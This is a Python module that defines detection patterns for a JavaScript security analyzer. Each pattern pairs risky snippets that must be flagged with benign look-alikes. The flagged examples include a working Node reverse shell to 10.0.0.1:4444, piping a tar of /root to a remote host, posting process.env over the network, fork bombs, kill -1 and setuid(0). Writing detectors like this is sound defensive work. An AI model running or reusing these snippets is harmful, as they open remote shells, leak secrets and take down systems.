"""The high-risk patterns the JavaScript analyzer (``airlock.policy.javascript``) finds, with code that
must be found to do each one and look-alikes that must not."""

from __future__ import annotations

from airlock.models import Risk
from airlock.policy.patterns import Pattern, register

__all__ = [
    "CHILD_PROCESS",
    "COMPUTED_MEMBER",
    "DECODE_EXEC",
    "DYNAMIC_COMMAND",
    "DYNAMIC_EVAL",
    "DYNAMIC_IMPORT",
    "ENV_DUMP",
    "EVAL_LITERAL",
    "EXFILTRATION",
    "FORK_BOMB",
    "KILL_ALL",
    "NATIVE",
    "NETWORK",
    "REVERSE_SHELL",
    "SETUID",
    "UNPARSED",
]


def _js(*samples: str) -> tuple[tuple[str, str], ...]:
    return tuple(("javascript", sample) for sample in samples)


CHILD_PROCESS = Pattern(
    "js.child-process",
    Risk.MEDIUM,
    "loads child_process, which runs programs",
    examples=_js(
        "const cp = require('child_process');",
        "import { execSync } from 'node:child_process';",
        "const { spawn } = await import('child_process');",
        "const m = require('child_' + 'process');",
    ),
    benign=_js("const fs = require('fs');", "// child processes are not used here\nconsole.log(1);"),
)
DYNAMIC_COMMAND = Pattern(
    "js.dynamic-command",
    Risk.HIGH,
    "runs a computed command",
    examples=_js(
        "const { exec } = require('child_process');\nexec(process.argv[2]);",
        "require('child_process').execSync(`ls ${dir}`);",
        "const cp = require('child_process');\ncp.spawn('sh', args);",
        "const cp = require('child_process');\nconst run = cp.execSync.bind(cp);",
    ),
    benign=_js(
        "require('child_process').execSync('ls -la');",
        "const cp = require('child_process');\ncp.spawn('git', ['status'], { cwd: 'repo' });",
        "const m = /a(b)/.exec(text);",
    ),
)
EVAL_LITERAL = Pattern(
    "js.eval-literal",
    Risk.MEDIUM,
    "evaluates code from a string (the string was analyzed too)",
    examples=_js("eval('1 + 1');", "const add = new Function('a', 'b', 'return a + b');", "setTimeout('tick()', 10);"),
    benign=_js("setTimeout(() => tick(), 10);", "const evaluation = evaluate('1 + 1');"),
)
DYNAMIC_EVAL = Pattern(
    "js.dynamic-eval",
    Risk.HIGH,
    "evaluates computed code",
    examples=_js(
        "eval(input);",
        "const f = Function(body);",
        "const vm = require('vm');\nvm.runInNewContext(code, {});",
        "setInterval('step(' + n + ')', 100);",
        "(0, eval)('x');",
    ),
    benign=_js("const f = new Function('return 1');", "if (f instanceof Function) f();", "math.eval(expr);"),
)
DYNAMIC_IMPORT = Pattern(
    "js.dynamic-import",
    Risk.HIGH,
    "loads a module whose name is computed or hidden",
    examples=_js(
        "const m = require(name);", "await import(`./${plugin}.js`);", "require(['child', 'process'].join('_'));"
    ),
    benign=_js("const lib = require('./lib.js');", "const p = require(path.join(__dirname, 'lib.js'));"),
)
COMPUTED_MEMBER = Pattern(
    "js.computed-member",
    Risk.HIGH,
    "reaches a global or a module member through a computed name",
    examples=_js(
        "global['ev' + 'al']('1');",
        "const f = globalThis[name];",
        "process['binding']('fs');",
        "this.constructor.constructor('return process')();",
        "const cp = require('child_process');\ncp[method]('ls');",
    ),
    benign=_js(
        "const row = {};\nrow[key] = value;", "process['env'].HOME;", "return new this.constructor(this.items);"
    ),
)
DECODE_EXEC = Pattern(
    "js.decode-exec",
    Risk.HIGH,
    "runs code or a command that it decodes first",
    examples=_js(
        "eval(atob('Y29uc29sZS5sb2coMSk='));",
        "eval(Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString());",
        "new Function(String.fromCharCode(114, 101, 116, 117, 114, 110))();",
        "require('child_process').execSync(Buffer.from(payload, 'base64').toString());",
    ),
    benign=_js("const text = atob(encoded);\nconsole.log(text);", "const s = Buffer.from(data, 'base64');"),
)
NATIVE = Pattern(
    "js.native",
    Risk.HIGH,
    "reaches node's native internals (process.binding, process.dlopen)",
    examples=_js("process.binding('spawn_sync');", "process.dlopen(module, '/tmp/x.node');"),
    benign=_js(
        "console.log(process.pid, process.platform);",
    ),
)
NETWORK = Pattern(
    "js.network",
    Risk.MEDIUM,
    "uses the network",
    examples=_js(
        "const res = await fetch('https://example.com');",
        "const https = require('https');",
        "import net from 'node:net';",
        "const ws = new WebSocket('wss://example.com');",
    ),
    benign=_js("const url = new URL('https://example.com');", "const fetched = cache.fetch(key);"),
)
REVERSE_SHELL = Pattern(
    "js.reverse-shell",
    Risk.CRITICAL,
    "connects a shell, or a program piped to it, to a socket (a reverse shell)",
    examples=_js(
        "const net = require('net'), cp = require('child_process');\n"
        "const sh = cp.spawn('/bin/sh', []);\n"
        "const client = new net.Socket();\n"
        "client.connect(4444, '10.0.0.1', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });",
        "const net = require('net');\nconst { spawn } = require('child_process');\n"
        "spawn('tar', ['czf', '-', '/root']).stdout.pipe(net.connect(9000, '203.0.113.5'));",
    ),
    benign=_js(
        "const net = require('net');\nconst server = net.createServer((s) => s.end('hi'));",
        "const cp = require('child_process');\ncp.spawn('/bin/sh', ['build.sh']);",
    ),
)
ENV_DUMP = Pattern(
    "js.env-dump",
    Risk.MEDIUM,
    "reads the whole environment",
    examples=_js("console.log(JSON.stringify(process.env));", "for (const k of Object.keys(process.env)) {}"),
    benign=_js("const home = process.env.HOME;", "const port = process.env['PORT'] || 3000;"),
)
EXFILTRATION = Pattern(
    "js.exfiltration",
    Risk.HIGH,
    "sends the environment over the network",
    examples=_js(
        "await fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) });",
    ),
    benign=_js(
        "const res = await fetch('https://example.com/items?user=' + process.env.USER);",
    ),
)
KILL_ALL = Pattern(
    "js.kill-all",
    Risk.HIGH,
    "signals every process it can (kill -1), or its whole process group",
    examples=_js(
        "process.kill(-1, 'SIGKILL');",
    ),
    benign=_js("process.kill(process.pid, 'SIGTERM');", "child.kill();"),
)
SETUID = Pattern(
    "js.setuid",
    Risk.HIGH,
    "changes its user or group id",
    examples=_js("process.setuid(0);", "process.setgid('root');"),
    benign=_js(
        "console.log(process.getuid());",
    ),
)
FORK_BOMB = Pattern(
    "js.fork-bomb",
    Risk.CRITICAL,
    "starts processes without end (a fork bomb)",
    examples=_js(
        "const { fork } = require('child_process');\nwhile (true) { fork(__filename); }",
        "const cp = require('child_process');\nfor (;;) cp.spawn('node', ['-e', '1']);",
        "require('child_process').fork(__filename);",
        "const cluster = require('cluster');\nfor (;;) cluster.fork();",
    ),
    benign=_js(
        "const cp = require('child_process');\nfor (const f of files) cp.execFileSync('gzip', ['-k', 'a.txt']);",
        "const cluster = require('cluster');\nif (cluster.isPrimary) { for (let i = 0; i < 4; i++) cluster.fork(); }",
    ),
)
UNPARSED = Pattern(
    "js.unparsed",
    Risk.HIGH,
    "does not parse as JavaScript, so the analysis may have missed things",
    examples=_js("function f( {", "const x = ;"),
    benign=_js("const x = 1;\n", "#!/usr/bin/env node\nconst el = <div>hi</div>;"),
)

register(
    CHILD_PROCESS,
    DYNAMIC_COMMAND,
    EVAL_LITERAL,
    DYNAMIC_EVAL,
    DYNAMIC_IMPORT,
    COMPUTED_MEMBER,
    DECODE_EXEC,
    NATIVE,
    NETWORK,
    REVERSE_SHELL,
    ENV_DUMP,
    EXFILTRATION,
    KILL_ALL,
    SETUID,
    FORK_BOMB,
    UNPARSED,
)
